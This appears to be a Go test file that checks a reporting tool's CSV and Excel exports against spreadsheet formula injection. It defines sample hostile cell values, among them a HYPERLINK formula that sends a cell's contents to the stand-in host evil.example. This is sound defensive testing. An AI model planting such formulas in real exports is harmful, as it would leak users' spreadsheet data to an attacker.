package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/awaf/awaf/internal/multilens"
	"github.com/awaf/awaf/internal/portfolio"
	"github.com/xuri/excelize/v2"
)

// hostileCells are texts a spreadsheet would run as formulas, put where user and lens
// text reaches the exports.
var hostileCells = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"+SUM(A1)",
	"-2+3",
	"@SUM(A1)",
	"\t=cmd",
	"\r=cmd",
}

func formulaInput(t *testing.T, i int) Input {
	t.Helper()
	in := tinyInput()
	h := hostileCells[i%len(hostileCells)]
	in.Result.Questions[0].Note = h
	in.Result.Plan[0].Title = h
	in.Result.Plan[0].Why = h
	in.Lens.Name = h
	return in
}

// startsLikeFormula reports whether a cell would run in a spreadsheet.
func startsLikeFormula(s string) bool {
	return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0]))
}

// TestCSVCellsCannotRun checks that no text cell of the CSV report starts like a
// formula, and that numeric cells stay numbers.
func TestCSVCellsCannotRun(t *testing.T) {
	for i, h := range hostileCells {
		out := MustRender(t, CSV, formulaInput(t, i))
		r := csv.NewReader(bytes.NewReader(out))
		r.FieldsPerRecord = -1
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		found := 0
		for n, rec := range recs {
			for _, c := range rec {
				if c == "-----------" {
					continue // the layout's separator line
				}
				if startsLikeFormula(c) {
					t.Errorf("%q: record %d has a live formula cell %q", h, n+1, c)
				}
				if c == "'"+h || c == "'"+strings.ReplaceAll(h, "\r", "\n") {
					found++
				}
			}
		}
		if found == 0 {
			t.Errorf("%q: the neutralized text is not in the export", h)
		}
	}
}

// TestXLSXCellsCannotRun does the same for the Excel workbooks, single, combined and
// portfolio:
// no string cell starts like a formula, and numbers stay numeric cells.
func TestXLSXCellsCannotRun(t *testing.T) {
	for i, h := range hostileCells {
		outs := map[string][]byte{"single": MustRender(t, XLSX, formulaInput(t, i))}
		in := formulaInput(t, i)
		other := tinyEdge()
		other.Lens.ID = "tiny-edge"
		other.Result.Workload = in.Result.Workload
		pf, err := multilens.Combine([]multilens.Part{
			{Lens: in.Lens, Assessment: in.Assessment, Result: in.Result},
			{Lens: other.Lens, Result: other.Result},
		}, multilens.Options{})
		if err != nil {
			t.Fatal(err)
		}
		outs["combined"] = MustRenderCombined(t, XLSX, Combined{Lenses: pf, Generated: generated})
		res := *in.Result
		res.Workload.Name, res.Workload.Owner = h, h
		var port bytes.Buffer
		if err := RenderPortfolio(&port, XLSX, Portfolio{View: portfolio.Build([]portfolio.Entry{{Result: &res}}), Generated: generated}); err != nil {
			t.Fatal(err)
		}
		outs["portfolio"] = port.Bytes()
		for name, b := range outs {
			f, err := excelize.OpenReader(bytes.NewReader(b))
			if err != nil {
				t.Fatal(err)
			}
			found, numbers := 0, 0
			for _, sheet := range f.GetSheetList() {
				rows, err := f.GetRows(sheet)
				if err != nil {
					t.Fatal(err)
				}
				for ri, row := range rows {
					for ci, v := range row {
						cell, _ := excelize.CoordinatesToCellName(ci+1, ri+1)
						typ, err := f.GetCellType(sheet, cell)
						if err != nil {
							t.Fatal(err)
						}
						if typ == excelize.CellTypeNumber || typ == excelize.CellTypeUnset && v != "" && !startsLikeFormula(v) {
							numbers++
							continue
						}
						if startsLikeFormula(v) {
							t.Errorf("%s %q: %s!%s holds a live formula text %q", name, h, sheet, cell, v)
						}
						if strings.HasPrefix(v, "'") && strings.Contains(v, strings.TrimLeft(h, "\t\r")) {
							found++
						}
						if f, _ := f.GetCellFormula(sheet, cell); f != "" {
							t.Errorf("%s: %s!%s has a formula %q", name, sheet, cell, f)
						}
					}
				}
			}
			if found == 0 {
				t.Errorf("%s %q: the neutralized text is not in the workbook", name, h)
			}
			if numbers == 0 {
				t.Errorf("%s: no numeric cells left", name)
			}
			f.Close()
		}
	}
}
